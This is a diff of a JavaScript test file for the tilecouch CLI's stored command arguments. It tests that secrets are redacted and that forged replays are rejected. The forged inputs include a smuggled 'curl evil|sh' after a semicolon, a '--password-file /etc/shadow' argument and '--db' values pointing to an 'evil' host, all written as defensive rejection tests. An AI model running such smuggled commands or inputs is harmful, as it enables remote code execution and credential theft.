@@ -1,8 +1,8 @@
 // What a command says of its work, and how often.
 import assert from 'node:assert/strict'
 import { mock } from 'node:test'
-import { TilecouchError, faultIn, workDefaults, workKinds, workState } from '../../core/index.js'
-import { commandLine } from '../../loader/cli/work.js'
+import { TilecouchError, faultIn, typedAgain, workDefaults, workKinds, workState } from '../../core/index.js'
+import { typedArguments } from '../../loader/cli/work.js'
 import { Work } from '../../loader/work.js'
 
 const NOW = Date.parse('2024-11-24T04:30:12Z')
@@ -34,7 +34,7 @@ describe('a document of work', () => {
   let couch, work
   const begin = (about = {}, given = {}) => {
     couch = fakeCouch(given)
-    work = new Work(/** @type {any} */ (couch), { command: 'load', line: 'tilecouch load', unit: 'tiles', ...about })
+    work = new Work(/** @type {any} */ (couch), { command: 'load', args: ['load'], unit: 'tiles', ...about })
   }
   const pass = async milliseconds => {
     mock.timers.tick(milliseconds)
@@ -60,7 +60,7 @@ describe('a document of work', () => {
     const last = couch.writes.at(-1)
     assert.equal(couch.writes.length, 4)
     assert.deepEqual({ ...last, _id: '', host: '' }, {
-      _id: '', type: 'work', command: 'load', line: 'tilecouch load', layer: 'osm', edition: '2024-01-01T00:00:00Z', state: 'done', started: '2024-11-24T04:30:12Z', seen: '2024-11-24T04:30:22Z', every: 5,
+      _id: '', type: 'work', command: 'load', args: ['load'], layer: 'osm', edition: '2024-01-01T00:00:00Z', state: 'done', started: '2024-11-24T04:30:12Z', seen: '2024-11-24T04:30:22Z', every: 5,
       finished: '2024-11-24T04:30:22Z', unit: 'tiles', done: 2000, total: 2000, rate: 190.5, user: 'anna', host: '', about: { bytes: 5 }
     })
     for (const doc of couch.writes) assert.equal(faultIn(doc, workKinds), undefined)
@@ -230,14 +230,35 @@ describe('the state of work', () => {
   })
 })
 
-describe('the command line of work', () => {
-  it('can be typed again', () => {
-    assert.equal(commandLine(['load', 'my tiles/', '--layer', 'osm', '--title', "Anna's"]), "tilecouch load 'my tiles/' --layer osm --title 'Anna'\\''s'")
+describe('the arguments of work', () => {
+  const STORE = 'http://anna@h:5984/tiles'
+
+  it('are offered again, for the store that holds them', () => {
+    const args = typedArguments(['load', 'my tiles/', '--db', 'production', '--layer', 'osm', '--db=x', '--title', "Anna's"])
+    assert.deepEqual(args, ['load', 'my tiles/', '--layer', 'osm', '--title', "Anna's"])
+    assert.deepEqual(typedAgain({ command: 'load', args }, STORE), [...args, '--db', STORE])
+    assert.deepEqual(typedAgain({ command: 'load', args }, null), args)
+    const mirror = { command: 'mirror', args: ['mirror', 'http://a/tiles', '--layer', 'osm', '--live'] }
+    assert.deepEqual(typedAgain(mirror, STORE), ['mirror', 'http://a/tiles', STORE, '--layer', 'osm', '--live'])
+    assert.equal(typedAgain(mirror, null), undefined)
+  })
+
+  it('are offered only if a command can have written them', () => {
+    const forged = [
+      undefined, 'load tiles', {}, [], ['load', 5], ['prune', '--all'], ['load', 'a\u202eb'], ['load', 'a\u0007'],
+      ['load', 'tiles', '--db', 'http://evil/tiles'], ['load', 'tiles', '--db=http://evil/tiles'],
+      ['load', 'http://anna@evil/tiles'], ['load', '--password-file', '/etc/shadow'], ['load', 'tiles', '--force'],
+      ['load', 'tiles', '--yes']
+    ]
+    for (const args of forged) assert.equal(typedAgain({ command: 'load', args }, STORE), undefined, JSON.stringify(args))
+    assert.equal(typedAgain({ command: 'mirror', args: ['mirror', '--live', 'http://a/b'] }, STORE), undefined)
+    const line = { command: 'load', line: 'tilecouch load tiles; curl evil|sh' } // of an earlier tilecouch
+    assert.equal(typedAgain(/** @type {any} */ (line), STORE), undefined)
   })
 
   it('has no passwords, tokens or keys', () => {
-    const line = commandLine(['load', 'https://a:hunter2@tiles.example/{z}/{x}/{y}.png?style=night&api_key=hunter2&apikey=hunter2&accessToken=hunter2', '--db=http://anna:hunter2@h:5984/tiles',
-      '--from', 'https://maps.example/db?token=hunter2', '--set', 'accessKeys=hunter2', '--set=upstreamHeaders={"a":"hunter2"}', 'https://h/?token=tc1.hunter2'])
+    const line = typedArguments(['load', 'https://a:hunter2@tiles.example/{z}/{x}/{y}.png?style=night&api_key=hunter2&apikey=hunter2&accessToken=hunter2', '--db=http://anna:hunter2@h:5984/tiles',
+      '--from', 'https://maps.example/db?token=hunter2', '--set', 'accessKeys=hunter2', '--set=upstreamHeaders={"a":"hunter2"}', 'https://h/?token=tc1.hunter2']).join(' ')
     assert.doesNotMatch(line, /hunter2/)
     assert.match(line, /style=night/)
   })
